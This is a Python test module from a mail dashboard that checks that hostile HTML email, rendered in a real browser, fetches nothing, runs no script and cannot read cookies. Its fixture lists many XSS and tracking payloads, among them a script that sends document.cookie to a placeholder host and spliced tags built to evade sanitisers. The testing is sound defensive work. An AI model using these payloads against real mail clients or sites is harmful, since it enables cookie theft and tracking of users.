"""A hostile mail in a real browser: nothing is fetched, nothing runs, nothing is given away."""

import asyncio
import base64
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from email.message import EmailMessage

import browser
import httpx
import pytest
from browser import visit
from dashboard_stage import Stage, capture, mail, staged
from hypothesis import given
from hypothesis import strategies as st
from playwright.async_api import Browser, expect
from running import PATIENCE

from dashboard.hostile_html import INLINE_LIMIT, disarmed, with_inline_images
from dashboard.security_headers import MAIL_POLICY
from ledger.mime import Part

chromium = browser.chromium
"""The shared fixture, made known to this module."""

PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=TRAP/refresh"><base href="TRAP/base/">
<link rel="stylesheet" href="TRAP/style.css"><link rel="preconnect" href="TRAP"><link rel="dns-prefetch" href="TRAP">
<LINK
 REL=prefetch HREF="TRAP/prefetch"><link rel="preload" as="image" href="TRAP/preload"><link rel="icon" href="TRAP/icon">
<style>@import "TRAP/import.css"; body { background: url(TRAP/background) }
@font-face { font-family: x; src: url(TRAP/font) }
p { font-family: x; cursor: url(TRAP/cursor), auto } li { list-style-image: url(TRAP/bullet) }</style>
<script>new Image().src = "TRAP/stolen?" + document.cookie</script><script src="TRAP/script.js"></script>
</head><body background="TRAP/body" onload="fetch('TRAP/onload')">
<p>Hostile</p><ul><li>x</li></ul>
<img src="TRAP/pixel" onerror="fetch('TRAP/onerror')"><img srcset="TRAP/srcset 1x">
<picture><source srcset="TRAP/source"></picture>
<img src="cid:logo@shop" id="logo"><input type="image" src="TRAP/input">
<table background="TRAP/table"><tr><td>x</table>
<svg><image href="TRAP/svg"/><use href="TRAP/use.svg#x"/><script>fetch("TRAP/svgscript")</script></svg>
<iframe src="TRAP/frame"></iframe><iframe srcdoc="<script>parent.location='TRAP/srcdoc'</script>"></iframe>
<object data="TRAP/object"></object><embed src="TRAP/embed">
<video src="TRAP/video" poster="TRAP/poster" autoplay></video>
<audio src="TRAP/audio" autoplay></audio><form action="TRAP/form"><button id="send">Send</button></form>
<a id="away" href="TRAP/link" ping="TRAP/ping">Click</a> <a id="top" href="TRAP/top" target="_top">Top</a>
<a id="self" title=">" target = _self href="TRAP/self">Self</a>
<svg><a href="TRAP/svglink" target="_self">
<text id="drawn" y="20">Drawn</text></a></svg>
<li<link>nk rel="preconnect" href="TRAP"> <ifr<iframe>ame src="TRAP/spliced"></iframe>
<a id="new" href="TRAP/new" target="_blank">New</a> <a id="own" href="/api/captures">Own</a>
</body></html>"""


class Trap:
    """Everything on the outside that a mail could reach: any connection at all is counted."""

    def __init__(self) -> None:
        self.connections = 0
        self.address = ""
        self._more = asyncio.Condition()

    async def meet(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.close()
        async with self._more:
            self.connections += 1
            self._more.notify_all()

    async def met(self, count: int) -> None:
        """Wait until that many have come."""
        async with asyncio.timeout(PATIENCE), self._more:
            await self._more.wait_for(lambda: self.connections >= count)


@asynccontextmanager
async def trapping() -> AsyncIterator[Trap]:
    trap = Trap()
    server = await asyncio.start_server(trap.meet, "127.0.0.1", 0)
    trap.address = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    async with server:
        yield trap


def hostile(trap: Trap) -> bytes:
    message = EmailMessage()
    message["Subject"] = '<img src="TRAP/subject" onerror=alert(1)>'.replace("TRAP", trap.address)
    message.set_content("Hostile")
    message.add_alternative(HOSTILE.replace("TRAP", trap.address), subtype="html")
    message.get_payload()[1].add_related(PIXEL, "image", "gif", cid="<logo@shop>")  # type: ignore[index, union-attr]
    return message.as_bytes()


@pytest.fixture
async def stage(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stage]:
    async with staged(tmp_path_factory.mktemp("hostile")) as running:
        yield running


async def test_the_same_mail_in_a_plain_page_reaches_outside(chromium: Browser) -> None:
    """Shows that the trap and the mail are worth something."""
    async with trapping() as trap:
        page = await (await chromium.new_context()).new_page()
        await page.set_content(HOSTILE.replace("TRAP", trap.address), wait_until="commit")
        await trap.met(4)
        await page.context.close()


async def test_a_hostile_mail_reaches_nothing(chromium: Browser, stage: Stage) -> None:
    async with trapping() as trap:
        raw = hostile(trap)
        subject = f'<img src="{trap.address}/subject" onerror=alert(1)>'
        shown = await stage.add(mail(subject, [f'"><script src={trap.address}/to></script>@x.example'], raw))
        visitor = await visit(chromium, stage.link())
        for tab in ("text", "headers", "raw", "parts", "links", "html"):
            await visitor.page.goto(f"{stage.url}/inbox/{shown}?tab={tab}")
        frame = visitor.page.frame_locator("iframe")
        await expect(frame.locator("p")).to_have_text("Hostile")
        await expect(frame.locator("#logo")).to_have_js_property("naturalWidth", 1)  # inline images are shown
        for link in ("#away", "#self", "#drawn", "#top", "#new", "#own", "#send"):
            await visitor.page.goto(f"{stage.url}/inbox/{shown}?tab=html")
            await frame.locator(link).click(no_wait_after=True)
            await frame.locator("#away").press("Enter", no_wait_after=True)
        await visitor.page.goto(f"{stage.url}/attempts/{shown}")
        await visitor.page.goto(stage.url)
        await expect(visitor.page.locator("#live")).to_have_text("Live")
        assert visitor.page.url.startswith(stage.url)
        assert len(visitor.context.pages) == 1
        await visitor.context.close()
    assert trap.connections == 0


async def test_no_script_of_a_mail_runs_nor_reads_the_cookie(chromium: Browser, stage: Stage) -> None:
    async with trapping() as trap:
        shown = await stage.add(mail("Hostile", ["ann@example.com"], hostile(trap)))
        visitor = await visit(chromium, stage.link())
        await visitor.page.goto(f"{stage.url}/inbox/{shown}?tab=html")
        await expect(visitor.page.frame_locator("iframe").locator("p")).to_have_text("Hostile")
        assert await visitor.page.evaluate("document.cookie") == ""
        frame = next(frame for frame in visitor.page.frames if "/mail/" in frame.url)
        read = "() => { try { return document.cookie; } catch (error) { return error.name; } }"
        assert await frame.evaluate(read) == "SecurityError"
        origin = await frame.evaluate("() => self.origin")
        await visitor.context.close()
    assert origin == "null"


async def test_html_of_a_mail_and_of_a_call_come_under_the_same_policy(stage: Stage) -> None:
    async with trapping() as trap:
        sent = await stage.add(mail("Hostile", ["ann@example.com"], hostile(trap)))
    called = await stage.add(
        capture(host="api.sendgrid.com", scheme="https", port=443, facts={"html": "<p>x</p>", "to": ["a@b.example"]})
    )
    async with httpx.AsyncClient(base_url=stage.url, headers=stage.bearer, timeout=PATIENCE) as client:
        for shown in (sent, called, "unknown"):
            answer = await client.get(f"/mail/{shown}/html")
            assert answer.headers["content-security-policy"] == MAIL_POLICY
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["referrer-policy"] == "no-referrer"


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("<p>x</p>", '<base target="_blank"><p>x</p>', id="links-lead-nowhere"),
        pytest.param("<!DOCTYPE html><p>", '<!DOCTYPE html><base target="_blank"><p>', id="doctype-stays-first"),
        pytest.param("<IFRAME src=x></IFRAME>", '<base target="_blank"><x-IFRAME src=x></x-IFRAME>', id="frame"),
        pytest.param("<link rel=preconnect>", '<base target="_blank"><meta rel=preconnect>', id="link"),
        pytest.param("<li<link>nk>", '<base target="_blank"><li<meta>nk>', id="spliced-link"),
        pytest.param("<a\ntarget=_self>", '<base target="_blank"><a\ndata-target=_self>', id="own-frame"),
        pytest.param("<base href=x>", '<base target="_blank"><meta href=x>', id="base"),
    ],
)
def test_what_connects_ahead_is_renamed(html: str, expected: str) -> None:
    assert disarmed(html) == expected


@given(
    st.lists(
        st.sampled_from(["<", "li", "nk", "<link", "<iframe", "ifr", "ame", "<base", ">", " ", "target", "=", "/"])
    )
)
def test_no_mix_of_pieces_makes_an_element_that_connects(pieces: list[str]) -> None:
    html = disarmed("".join(pieces)).removeprefix('<base target="_blank">').lower()
    assert re.search(r"<(link|base|iframe)[\s/>]", html) is None


def image(content_type: str, size: int, content_id: str = "a@b") -> Part:
    return Part(0, content_type, None, size, "", content_id, True, None, b"x" * min(size, 10))


@pytest.mark.parametrize(
    ("html", "part", "expected"),
    [
        pytest.param(
            '<img src="cid:a@b">',
            image("image/png", 10),
            '<img src="data:image/png;base64,eHh4eHh4eHh4eA==">',
            id="image",
        ),
        pytest.param("<img src=CID:a@b>", image("image/png", 1), "<img src=data:image/png;base64,eA==>", id="any-case"),
        pytest.param('<img src="cid:c@d">', image("image/png", 1), '<img src="cid:c@d">', id="another-id"),
        pytest.param('<img src="cid:a@b">', image("text/html", 1), '<img src="cid:a@b">', id="no-image"),
        pytest.param('<img src="cid:a@b">', image("image/svg+xml", 1), '<img src="cid:a@b">', id="svg"),
        pytest.param(
            '<img src="cid:a@b">', image("image/png", INLINE_LIMIT + 1), '<img src="cid:a@b">', id="too-large"
        ),
    ],
)
def test_inline_images(html: str, part: Part, expected: str) -> None:
    assert with_inline_images(html, [part]) == expected
